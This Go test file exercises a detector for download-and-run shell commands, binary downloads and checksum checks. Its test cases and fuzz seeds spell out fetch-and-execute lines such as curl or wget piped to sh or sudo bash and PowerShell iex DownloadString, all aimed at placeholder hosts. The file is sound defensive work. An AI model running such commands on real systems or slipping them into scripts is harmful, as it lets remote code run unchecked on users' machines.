package shell

import (
	"strings"
	"testing"
)

func TestRemoteExec(t *testing.T) {
	for in, want := range map[string]string{
		`curl -fsSL https://x.example/i.sh | sh`:                           `curl -fsSL https://x.example/i.sh | sh`,
		`wget -qO- https://x.example/i | sudo -E bash -s -- -y`:            `wget -qO- https://x.example/i | sudo -E bash`,
		`sh <(curl -s https://x.example/i.sh)`:                             `sh <(curl`,
		`iex (New-Object Net.WebClient).DownloadString('https://x/i.ps1')`: `iex (New-Object Net.WebClient`,
		`curl https://x.example/data.json | python -c 'import json'`:       ``, // the download is only input
		`curl -o tool.zip https://x.example/tool.zip`:                      ``,
		`echo sh | cat`: ``,
	} {
		i, j, ok := RemoteExec(in)
		got := ""
		if ok {
			got = in[i:j]
		}
		if got != want {
			t.Errorf("RemoteExec(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestBinaryDownloadAndVerify(t *testing.T) {
	m := BinaryDownload.FindStringSubmatch(`curl -L -o app.dmg https://x.example/v1/app.dmg && echo`)
	if m == nil || m[1] != "app.dmg" {
		t.Errorf("BinaryDownload = %q", m)
	}
	if BinaryDownload.MatchString(`curl https://x.example/api.json`) {
		t.Error("a JSON download is not a binary")
	}
	if !VerifyCommand.MatchString(`echo "$SUM  app.dmg" | sha256sum -c`) || VerifyCommand.MatchString(`echo done`) {
		t.Error("VerifyCommand")
	}
}

// FuzzRemoteExec: the download-and-run matcher must not panic, and its
// span lies inside the text (workflow and package.json scripts are
// untrusted).
func FuzzRemoteExec(f *testing.F) {
	for _, s := range []string{`a "b`, `x | y && z`, `'`, `\`, `$(curl x | sh)`, `iex ((`, `curl x` + strings.Repeat(" | a", 200) + " | sh",
		strings.Repeat("$(", 300) + "curl", `eval "$(wget`, `[scriptblock]::Create((irm`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if i, j, ok := RemoteExec(s); ok && (i < 0 || i > j || j > len(s)) {
			t.Fatalf("span %d..%d outside %q", i, j, s)
		}
	})
}
